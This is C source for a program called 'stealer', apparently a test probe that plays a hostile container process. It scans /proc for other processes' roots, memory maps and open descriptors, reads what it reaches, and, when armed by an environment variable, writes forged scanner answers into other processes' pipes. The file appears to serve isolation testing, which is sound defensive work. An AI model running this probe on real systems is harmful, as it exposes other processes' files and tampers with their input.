/* A hostile container's process: spins over /proc/<pid>/fd/N, /proc/<pid>/root and /proc/<pid>/maps of
 * every process it can see but itself and its container's first process, and uses whatever it reaches
 * the way an attacker would: a directory is read as a root (etc/os-release), a pipe gets a forged scanner
 * answer, a file is read. Each thing reached is printed once:
 *   reached pid=P what=fd:N|root|maps link=L info=I
 * and each process seen once, with what its status says of it:
 *   seen pid=P state=S uid=U capeff=C capprm=C nnp=N
 * `stealer` spins forever (the container's command); `stealer --once` looks once and exits.
 * The first line is `self-root=DEV:INO`, the identity of its own root folder. It forges only when
 * STEALER_ARMED=1 (the image sets it), so running it by mistake outside a container writes nothing. */
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_SEEN 65536
static unsigned long seen[MAX_SEEN];
static int nseen;

/* Remembers a key; returns 1 if it was new. */
static int first_time(unsigned long key) {
  for (int i = 0; i < nseen; i++)
    if (seen[i] == key) return 0;
  if (nseen < MAX_SEEN) seen[nseen++] = key;
  return 1;
}

/* The first bytes of a file, printable ASCII only. */
static void sample(const char *path, char *out, size_t cap) {
  out[0] = 0;
  int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  if (fd < 0) { snprintf(out, cap, "unreadable"); return; }
  char buf[256];
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n < 0) n = 0;
  size_t j = 0;
  for (ssize_t i = 0; i < n && j + 1 < cap; i++) out[j++] = (buf[i] >= 33 && buf[i] < 127) ? buf[i] : '.';
  out[j] = 0;
}

/* What a reached descriptor or root gives an attacker. */
static void use(const char *path, const char *link, char *info, size_t cap) {
  struct stat st = {0};
  const char *armed = getenv("STEALER_ARMED");
  if (strncmp(link, "pipe:", 5) == 0 && !(armed && strcmp(armed, "1") == 0)) {
    snprintf(info, cap, "pipe-forged=unarmed");
    return;
  }
  if (strncmp(link, "pipe:", 5) == 0) {
    static const char forged[] = "os-release-id=forged\nos-release-version-id=0\ndone\n";
    int fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
    ssize_t n = fd < 0 ? -1 : write(fd, forged, sizeof forged - 1);
    if (fd >= 0) close(fd);
    snprintf(info, cap, "pipe-forged=%s", n > 0 ? "yes" : "no");
    return;
  }
  /* here=yes: the very file its own root has at that path, i.e. nothing it did not have already. */
  struct stat mine = {0};
  int here = stat(path, &st) == 0 && stat(link, &mine) == 0 && st.st_dev == mine.st_dev && st.st_ino == mine.st_ino;
  char s[128];
  if (S_ISDIR(st.st_mode)) {
    char osr[PATH_MAX + 32];
    snprintf(osr, sizeof osr, "%s/etc/os-release", path);
    sample(osr, s, sizeof s);
    snprintf(info, cap, "here=%s dir=%lu:%lu os-release=%s", here ? "yes" : "no", (unsigned long)st.st_dev, (unsigned long)st.st_ino, s);
  } else {
    sample(path, s, sizeof s);
    snprintf(info, cap, "here=%s file=%s", here ? "yes" : "no", s);
  }
}

static void reached(int pid, const char *what, const char *path) {
  char link[PATH_MAX] = "", info[512];
  ssize_t n = readlink(path, link, sizeof link - 1);
  /* Listing /proc/<pid>/fd shows numbers only (to the uid that owns the process's proc files, root for a
   * non-dumpable one); a descriptor is reached when its link can be read, which is what opening it needs. */
  if (n <= 0) return;
  link[n] = 0;
  use(path, link, info, sizeof info);
  printf("reached pid=%d what=%s link=%s info=%s\n", pid, what, link, info);
  fflush(stdout);
}

static void status_line(int pid) {
  char path[64], buf[4096], state[8] = "?", uid[64] = "?", capeff[32] = "?", capprm[32] = "?", nnp[8] = "?";
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  FILE *f = fopen(path, "re");
  if (!f) return;
  while (fgets(buf, sizeof buf, f)) {
    if (sscanf(buf, "State: %7s", state) == 1) continue;
    if (strncmp(buf, "Uid:", 4) == 0) { unsigned a, b, c, d; if (sscanf(buf + 4, "%u %u %u %u", &a, &b, &c, &d) == 4) snprintf(uid, sizeof uid, "%u,%u,%u", a, b, c); continue; }
    if (sscanf(buf, "CapEff: %31s", capeff) == 1) continue;
    if (sscanf(buf, "CapPrm: %31s", capprm) == 1) continue;
    if (sscanf(buf, "NoNewPrivs: %7s", nnp) == 1) continue;
  }
  fclose(f);
  printf("seen pid=%d state=%s uid=%s capeff=%s capprm=%s nnp=%s\n", pid, state, uid, capeff, capprm, nnp);
  fflush(stdout);
}

static void look(int self) {
  DIR *proc = opendir("/proc");
  if (!proc) return;
  struct dirent *e;
  while ((e = readdir(proc))) {
    int pid = atoi(e->d_name);
    if (pid <= 1 || pid == self) continue;
    if (first_time((unsigned long)pid << 16 | 0xffff)) status_line(pid);
    char path[PATH_MAX];
    snprintf(path, sizeof path, "/proc/%d/root", pid);
    char link[PATH_MAX];
    if (readlink(path, link, sizeof link) >= 0 && first_time((unsigned long)pid << 16 | 0xfffe)) reached(pid, "root", path);
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    int m = open(path, O_RDONLY | O_CLOEXEC);
    if (m >= 0) {
      char c;
      if (read(m, &c, 1) == 1 && first_time((unsigned long)pid << 16 | 0xfffd)) {
        printf("reached pid=%d what=maps link= info=readable\n", pid);
        fflush(stdout);
      }
      close(m);
    }
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *fds = opendir(path);
    if (!fds) continue;
    struct dirent *f;
    while ((f = readdir(fds))) {
      if (f->d_name[0] == '.') continue;
      int fd = atoi(f->d_name);
      char fdpath[PATH_MAX], what[32], link[PATH_MAX];
      snprintf(fdpath, sizeof fdpath, "/proc/%d/fd/%d", pid, fd);
      if (readlink(fdpath, link, sizeof link) <= 0 || !first_time((unsigned long)pid << 16 | (unsigned)fd)) continue;
      snprintf(what, sizeof what, "fd:%d", fd);
      reached(pid, what, fdpath);
    }
    closedir(fds);
  }
  closedir(proc);
}

int main(int argc, char **argv) {
  int once = argc > 1 && strcmp(argv[1], "--once") == 0;
  struct stat root;
  if (stat("/", &root) == 0) printf("self-root=%lu:%lu\n", (unsigned long)root.st_dev, (unsigned long)root.st_ino);
  fflush(stdout);
  int self = getpid();
  do look(self); while (!once);
  return 0;
}
